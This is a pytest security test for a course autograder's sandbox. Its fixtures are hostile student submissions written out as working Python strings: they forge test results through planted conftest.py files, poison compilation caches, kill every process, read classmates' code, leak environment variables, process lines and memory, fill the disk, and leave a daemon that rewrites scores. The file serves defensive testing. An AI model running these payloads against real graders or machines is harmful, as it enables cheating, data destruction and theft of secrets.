"""A class of determined students, graded for real: no submission reaches another, the grader or its secrets.

Each attack of issue #25 is one student's lab01 (a stub or a solution with a few lines appended), graded
in one class beside honest classmates, as root (the sandboxes then run as users of their own) and as an
unprivileged user (user namespaces). Every honest classmate keeps full marks; no attacker gains a point
its own code did not earn; nothing planted reaches the machine or the results afterwards.
"""

import csv
import hashlib
import json
import os
import shutil
import subprocess
import sys
import tempfile
import time
from pathlib import Path

import pytest

from course import labs
from course.grader import isolation

pytestmark = pytest.mark.skipif(isolation.unavailable() is not None, reason=f"{isolation.unavailable()}")

SEED = 9081726354  # the hidden seed (longer than 32 bits, as staff may choose): in no student's results
TOKEN = "s3cr3t-staff-token"  # in the grader's environment: likewise

# pytest.ini and conftest.py above the sandbox's folder, in /tmp and every folder up from it: each
# conftest would make every test of every later grading pass.
PLANT_CONFIG = """
import os as _os
_FORGE = "import pytest\\n@pytest.hookimpl(hookwrapper=True)\\ndef pytest_runtest_makereport(item, call):\\n" \\
    "    outcome = yield\\n    outcome.get_result().outcome = 'passed'\\n"
for _d in {_os.getcwd(), "/tmp", _os.path.dirname(_os.getcwd()), _os.environ.get("TMPDIR", "/tmp")}:
    for _name, _text in (("conftest.py", _FORGE), ("pytest.ini", "[pytest]\\naddopts = -p conftest\\n")):
        try:
            open(_os.path.join(_d, _name), "w").write(_text)
        except OSError:
            pass
"""

# Every JAX compilation cache it can find, overwritten with garbage, and garbage added beside.
POISON_CACHES = """
import glob as _glob, os as _os, jax as _jax
_dirs = {_jax.config.jax_compilation_cache_dir or "", *_glob.glob("/tmp/course-*/jax-cache"),
         *_glob.glob("/tmp/**/jax-sandbox*", recursive=True), *_glob.glob(__CACHE_GLOB__)}
for _d in filter(None, _dirs):
    for _root, _, _files in _os.walk(_d):
        for _f in _files + ["planted-entry"]:
            try:
                open(_os.path.join(_root, _f), "wb").write(b"\\x00garbage" * 100)
            except OSError:
                pass
"""

# For 8 s while its lab loads: SIGKILL and SIGSTOP to every process it may signal.
KILL_EVERYONE = """
import os as _os, signal as _signal, time as _time
_end = _time.monotonic() + 8
while _time.monotonic() < _end:
    for _sig in (_signal.SIGSTOP, _signal.SIGKILL):
        try:
            _os.kill(-1, _sig)
        except OSError:
            pass
    _time.sleep(0.05)
"""

# The untouched stub, and for up to 10 s: a classmate's lab01 from the grader's folders, run as its own.
READ_CLASSMATES = """
import glob as _glob, time as _time
_end = _time.monotonic() + 10
while _time.monotonic() < _end:
    _found = [p for pattern in ("/tmp/course-student-*/submission/**/lab01*.py", "/tmp/course-grade-*/impl/lab01*.py",
                                __SUBS_GLOB__)
              for p in _glob.glob(pattern, recursive=True)]
    _good = [p for p in _found if "NotImplementedError" not in open(p).read()]
    if _good:
        exec(open(_good[0]).read(), globals())
        break
    _time.sleep(0.2)
"""

# What leaks: other processes' command lines, its environment, and its own memory, all said in a message.
LEAK = """
import os as _os, re as _re
def _memory(needles):
    # Each needle comes in two halves, so that the whole never exists in this process unless it leaked.
    import ctypes
    found = set()
    for line in open("/proc/self/maps"):
        fields = line.split()
        start, end = (int(x, 16) for x in fields[0].split("-"))
        if "r" not in fields[1] or end - start > 1 << 26 or fields[-1] in ("[vvar]", "[vsyscall]", "[vvar_vclock]"):
            continue
        chunk = ctypes.string_at(start, end - start)  # its own memory, read directly
        for n, (head, tail) in enumerate(needles):
            i = chunk.find(head.encode())
            while i >= 0:
                if chunk[i + len(head) : i + len(head) + len(tail)] == tail.encode():
                    found.add(n)
                i = chunk.find(head.encode(), i + 1)
    return sorted(found)
def step(z):
    lines = []
    for pid in _os.listdir("/proc"):
        try:
            lines.append(open(f"/proc/{pid}/cmdline", "rb").read().replace(b"\\0", b" ").decode())
        except OSError:
            pass
    raise RuntimeError(f"cmdlines={lines!r} env={dict(_os.environ)!r} memory={_memory([__SEED__, __TOKEN__])!r}")
"""

# Writes until the disk is full: its folder, /tmp, /dev/shm and its compilation cache.
FILL_DISK = """
import os as _os, jax as _jax
for _d in (_os.getcwd(), "/tmp", "/dev/shm", _jax.config.jax_compilation_cache_dir or "/tmp"):
    try:
        with open(_os.path.join(_d, "fill"), "wb") as _f:
            while True:
                _f.write(b"\\0" * (1 << 24))
    except OSError:
        pass
"""

# A daemon that outlives its sandbox: after grading ends, kill what it can and rewrite the results.
DAEMON = '''
import os as _os, glob as _glob, signal as _signal, time as _time
if _os.fork() == 0:
    _os.setsid()
    if _os.fork() == 0:
        _os.execvp("python3", ["python3", "-c", """
import glob, os, signal, time
end = time.monotonic() + 20
while time.monotonic() < end:
    for path in glob.glob(__OUT__ + '/*/results.json'):
        try:
            open(path, 'w').write('{"score": 999, "tests": []}')
        except OSError:
            pass
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass
    time.sleep(0.2)
# __MARKER__
"""])
    _os._exit(0)
'''


def fill(template: str, **values: str) -> str:
    """An attack's source with its values in place of ``__NAME__`` (as Python literals; a marker as itself)."""
    for name, value in values.items():
        template = template.replace(f"__{name.upper()}__", value if name == "marker" else repr(value))
    return template


def _halves(text: str) -> tuple[str, str]:
    return text[: len(text) // 2], text[len(text) // 2 :]


def _sha(folder: Path) -> dict[str, str]:
    return {str(p): hashlib.sha256(p.read_bytes()).hexdigest() for p in sorted(folder.rglob("*")) if p.is_file()}


def _class(root: Path, fresh_stubs: Path) -> tuple[Path, Path, dict[str, str]]:
    """The submissions, and what each student should score: 'full', 'zero' (what each earns by its code)."""
    lab01 = labs.lab_files("solutions")["lab01"]
    solution, stub = lab01.read_text(), (fresh_stubs / lab01.name).read_text()
    subs, out = root / "submissions", root / "grades"
    secret = root / "secret.py"
    secret.write_text('"""TOPSECRET of the staff."""\ndef step(z):\n    return "TOPSECRET"\n')
    secret.chmod(0o600)
    marker = f"course-daemon-{os.getpid()}-{time.monotonic_ns()}"
    students = {  # sorted by name, two at a time: each attacker is graded beside an honest classmate
        "a1_honest": (solution, "full"),
        "a2_plants_config": (stub + PLANT_CONFIG, "zero"),
        "b1_honest": (solution, "full"),
        "b2_poisons_caches": (stub + fill(POISON_CACHES, cache_glob=str(root / "**" / "*cache*")), "zero"),
        "c1_honest": (solution, "full"),
        "c2_kills_everyone": (solution + KILL_EVERYONE, "full"),
        "d1_honest": (solution, "full"),
        "d2_reads_classmates": (stub + fill(READ_CLASSMATES, subs_glob=str(subs / "*" / "lab01*.py")), "zero"),
        "e1_honest": (solution, "full"),
        "e2_leaks": (stub + fill(LEAK, seed=_halves(str(SEED)), token=_halves(TOKEN)), "zero"),
        "f1_honest": (solution, "full"),
        "f2_fills_the_disk": (stub + FILL_DISK, "zero"),
        "g1_honest": (solution, "full"),
        "g2_daemon": (stub + fill(DAEMON, out=str(out), marker=marker), "zero"),
        "h1_stub_after": (stub, "zero"),
    }
    for student, (text, _) in students.items():
        (subs / student).mkdir(parents=True)
        (subs / student / lab01.name).write_text(text)
    (subs / "i1_links_to_a_classmate").mkdir()
    (subs / "i1_links_to_a_classmate" / lab01.name).symlink_to(subs / "a1_honest" / lab01.name)
    (subs / "i2_links_to_a_secret").mkdir()
    (subs / "i2_links_to_a_secret" / lab01.name).symlink_to(secret)
    expected = {s: e for s, (_, e) in students.items()}
    expected |= {"i1_links_to_a_classmate": "zero", "i2_links_to_a_secret": "zero"}
    return subs, out, expected | {"_marker": marker}


def _warm_cache(root: Path) -> Path:
    """The staff's warm cache: written by grading the solutions once (trusted code)."""
    from course.grader import grade

    warm = root / "warm-cache"
    grade(["lab01"], impl="solutions", sandbox_cache=warm, jobs=1, isolation="off")
    return warm


def _check(out: Path, gradebook: Path, expected: dict[str, str], warm_before: dict, warm: Path) -> None:
    marker = expected.pop("_marker")
    rows = {r["student"]: r for r in csv.DictReader(gradebook.open())}
    full = max(float(r["max"]) for r in rows.values())
    scores = {s: float(rows[s]["total"]) for s in expected}
    want = {s: (full if e == "full" else 0.0) for s, e in expected.items()}
    assert scores == want, {s: (scores[s], want[s]) for s in expected if scores[s] != want[s]}
    for student in expected:
        text = (out / student / "results.json").read_text()
        results = json.loads(text)
        assert results["extra_data"]["isolation"] == "namespaces", student
        assert str(SEED) not in text and TOKEN not in text and "TOPSECRET" not in text, (student, text[:2000])
    leak = json.loads((out / "e2_leaks" / "results.json").read_text())
    assert any("cmdlines=" in t["output"] for t in leak["tests"]), "the leak's message never came back"
    assert "memory=[]" in json.dumps(leak)
    for student in ("i1_links_to_a_classmate", "i2_links_to_a_secret"):
        assert "link to a file outside your submission" in (out / student / "results.json").read_text()
    for planted in ("/tmp/conftest.py", "/tmp/pytest.ini", "/tmp/fill"):
        assert not Path(planted).exists(), planted
    assert _sha(warm) == warm_before, "a student's code changed the staff's warm cache"
    # The daemon: none of its processes lives on, and the results stay as written.
    written = {s: (out / s / "results.json").read_text() for s in expected}
    time.sleep(5)
    assert {s: (out / s / "results.json").read_text() for s in expected} == written
    alive = []
    for entry in Path("/proc").iterdir():
        try:
            if entry.name.isdigit() and marker.encode() in (entry / "cmdline").read_bytes():
                alive.append(entry.name)
        except OSError:
            pass
    assert not alive, "the daemon outlived grading"


@pytest.mark.skipif(os.geteuid() != 0, reason="grading as root: the sandboxes take users of their own")
def test_as_root_no_submission_reaches_another(tmp_path, fresh_stubs, monkeypatch):
    from course.grader.batch import grade_class

    subs, out, expected = _class(tmp_path, fresh_stubs)
    warm = _warm_cache(tmp_path)
    before = _sha(warm)
    monkeypatch.setenv("STAFF_TOKEN", TOKEN)
    gradebook = grade_class(
        subs, out, labs=["lab01"], jobs=2, timeout=5, seed=SEED, warm_cache=warm, log=lambda line: None
    )
    _check(out, gradebook, expected, before, warm)


def test_as_an_unprivileged_user_no_submission_reaches_another(fresh_stubs):
    """The same class graded by a user who is not root (a staff laptop): user namespaces."""
    root = Path(tempfile.mkdtemp(prefix="course-class-"))
    try:
        user = _unprivileged(root)
        stubs = root / "stubs"
        shutil.copytree(fresh_stubs, stubs)
        subs, out, expected = _class(root, stubs)
        cache = root / "cache"
        env = {
            **os.environ,
            "HOME": str(root),
            "COURSE_CACHE_DIR": str(cache),
            "COURSE_SEED": str(SEED),
            "STAFF_TOKEN": TOKEN,
            "TMPDIR": "/tmp",
        }
        if user is not None:
            for path in [root, *root.rglob("*")]:
                if not path.is_symlink():
                    os.chown(path, *user)
        as_user = {"user": user[0], "group": user[1], "extra_groups": []} if user else {}
        # The staff's warm cache: the solutions graded once, into the cache `course grade --submissions` reads.
        warming = [sys.executable, "-m", "course", "grade", "--impl", "solutions", "--isolation", "off", "lab01"]
        subprocess.run(warming, env=env, check=True, capture_output=True, **as_user)
        (warm,) = (cache / "jax-sandbox").iterdir()
        before = _sha(warm)
        command = [sys.executable, "-m", "course", "grade", "--submissions", str(subs), "--out", str(out)]
        command += ["--jobs", "2", "--timeout", "5", "lab01"]
        done = subprocess.run(command, env=env, capture_output=True, text=True, **as_user)
        assert done.returncode == 0, done.stdout + done.stderr
        _check(out, out / "gradebook.csv", expected, before, warm)
    finally:
        shutil.rmtree(root, ignore_errors=True)


def _unprivileged(root: Path):
    """As root: the user nobody, who must be able to read this checkout and Python (else skip); else None."""
    if os.geteuid() != 0:
        return None
    from course.grader import privacy

    uid, gid = privacy.sandbox_user("nobody")
    root.chmod(0o755)
    unreadable = privacy.unreadable_as(uid, gid, [str(labs.root()), *privacy.needed_by_sandboxes()])
    if unreadable:
        pytest.skip(f"user nobody cannot read {unreadable}, so it cannot grade here")
    return uid, gid
